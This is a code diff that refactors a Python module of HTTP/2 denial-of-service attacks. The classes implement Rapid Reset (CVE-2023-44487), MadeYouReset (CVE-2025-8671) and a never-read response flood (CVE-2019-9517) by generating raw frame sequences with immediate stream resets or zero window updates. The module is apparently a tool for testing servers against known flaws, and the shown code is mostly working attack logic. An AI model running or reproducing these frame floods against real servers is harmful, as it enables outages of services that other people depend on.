@@ -50,26 +50,36 @@ class Attack:
     streams = 1
 
 
-class RapidReset(Attack):
+class Requests(Attack):
+    """As many requests in one step as there are streams, each with what `behind` says of it."""
+
+    path = b"/"
+
+    def behind(self, stream):
+        return b""
+
+    def step(self, stream):
+        block = head(self.path)
+        ids = range(stream, stream + 2 * self.streams, 2)
+        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, each, block) + self.behind(each) for each in ids)
+
+
+class RapidReset(Requests):
     """CVE-2023-44487: requests that are taken back at once."""
 
     streams = 100
 
-    def step(self, stream):
-        block = head()
-        ids = range(stream, stream + 2 * self.streams, 2)
-        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, each, block) + frame(RST_STREAM, 0, each, struct.pack(">I", 8)) for each in ids)
+    def behind(self, stream):
+        return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
-class MadeYouReset(Attack):
+class MadeYouReset(Requests):
     """CVE-2025-8671: requests that the server has to reset, for a window that is moved by nothing."""
 
     streams = 50
 
-    def step(self, stream):
-        block = head()
-        ids = range(stream, stream + 2 * self.streams, 2)
-        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, each, block) + frame(WINDOW_UPDATE, 0, each, struct.pack(">I", 0)) for each in ids)
+    def behind(self, stream):
+        return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
 
 
 class ContinuationFlood(Attack):
@@ -146,16 +156,11 @@ class WindowCrumbs(Attack):
         return frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000
 
 
-class NeverReads(Attack):
+class NeverReads(Requests):
     """CVE-2019-9517: answers are asked for and never taken."""
 
     streams = 50
-    reads = False
-
-    def step(self, stream):
-        block = head(b"/large")
-        ids = range(stream, stream + 2 * self.streams, 2)
-        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, each, block) for each in ids)
+    path = b"/large"
 
 
 ATTACKS = {
